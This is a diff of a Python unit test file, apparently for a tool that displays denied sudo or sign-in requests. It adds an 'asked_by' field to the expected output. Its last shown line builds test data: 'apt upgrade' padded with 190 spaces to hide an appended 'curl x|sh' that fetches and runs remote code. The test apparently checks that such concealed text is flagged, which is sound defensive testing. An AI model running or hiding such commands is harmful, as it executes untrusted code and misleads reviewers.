@@ -22,21 +22,22 @@ def setUpModule():
 
 
 class Request(unittest.TestCase):
-    def test_the_six_pairs_have_labels_and_all_others_their_names_in_quotes(self):
-        own = {"service": "sudo", "user": "alice", "tty": "pts/1", "remote_host": "192.0.2.7"}
+    def test_the_seven_pairs_have_labels_and_all_others_their_names_in_quotes(self):
+        own = {"service": "sudo", "user": "alice", "asked_by": "mallory", "tty": "pts/1", "remote_host": "192.0.2.7"}
         further = {"from": "10.1.1.1", "Host": "db-server", "time left": "1 h", "held back": "0"}
         lines = world.denied("web-1", {**own, **further})
         shown = lines[lines.index("transaction") + 1 : lines.index("denied")]
         rows = [(row[2:16].strip(), row[16:]) for row in shown]
         self.assertEqual(
             rows[:-2],
-            [("application", "office"), ("host", "web-1"), ("service", "sudo"), ("user", "alice"), ("terminal", "pts/1"),
+            [("application", "office"), ("host", "web-1"), ("service", "sudo"), ("user", "alice"), ("asked by", "mallory"),
+             ("terminal", "pts/1"),
              ("from", "192.0.2.7"), ("“Host”", "db-server"), ("“from”", "10.1.1.1"), ("“held back”", "0"),
              ("“time left”", "1 h")])
         self.assertEqual([name for name, _ in rows[-2:]], ["session", "time left"])
 
-    def test_a_request_of_the_six_pairs_alone_is_a_sign_in(self):
-        self.assertIn("sign-in request", world.denied("web-2", {"service": "sudo"}))
+    def test_a_request_of_the_seven_pairs_alone_is_a_sign_in(self):
+        self.assertIn("sign-in request", world.denied("web-2", {"service": "sudo", "asked_by": "mallory"}))
 
     def test_what_would_not_be_seen_is_named(self):
         command = "sh -c 'apt upgrade" + " " * 190 + "; curl x|sh'"
